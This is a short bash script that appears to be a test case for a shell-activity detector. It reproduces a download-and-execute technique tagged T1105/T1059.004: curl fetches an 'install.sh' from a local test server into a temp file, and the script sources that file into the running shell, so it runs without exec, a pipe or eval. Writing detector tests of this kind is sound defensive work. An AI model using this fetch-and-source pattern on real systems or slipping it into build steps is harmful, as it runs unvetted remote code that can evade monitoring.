#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: build steps that fetch an "environment setup" script and source it into the running shell (`curl -o env.sh URL && . ./env.sh`, the way SDK installers are pulled in), which runs a downloaded script with no exec, no pipe and no eval
# expect: download-piped-to-shell ^bash$
# exec-borne: no
#
# The path goes through a variable; the script is sourced, then removed.
set -u

SETUP=$(mktemp "${BW_ATTACK_TMP:?}/sdk-env-XXXXXX.sh")
trap 'rm -f "$SETUP"' EXIT

curl -fsSL --connect-timeout 5 -o "$SETUP" "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh"
# shellcheck disable=SC1090
. "$SETUP"
